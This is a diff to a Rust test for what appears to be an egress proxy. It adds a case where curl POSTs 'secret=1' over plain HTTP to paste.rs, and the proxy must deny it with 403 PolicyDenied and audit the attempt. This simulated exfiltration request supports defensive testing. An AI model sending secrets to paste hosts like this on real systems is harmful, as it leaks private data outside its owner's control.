@@ -116,6 +116,15 @@ fn exfiltration_host_denied_and_upstream_sees_nothing() {
     assert_eq!(out.status, 403, "{out:?}");
     assert_eq!(out.json()["denied"], true);
     assert_eq!(out.json()["reason"], "PolicyDenied");
+    // Plain-HTTP absolute-form through the proxy: same decision.
+    let plain = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "http://paste.rs/",
+        &["-d", "secret=1"],
+    );
+    assert_eq!(plain.status, 403, "{plain:?}");
+    assert_eq!(plain.json()["reason"], "PolicyDenied");
     assert_eq!(up.count(), 0, "a denied call must not reach the upstream");
     assert_eventually(Duration::from_secs(5), "deny audited", || {
         d.audit_for("paste.rs").iter().any(|e| {
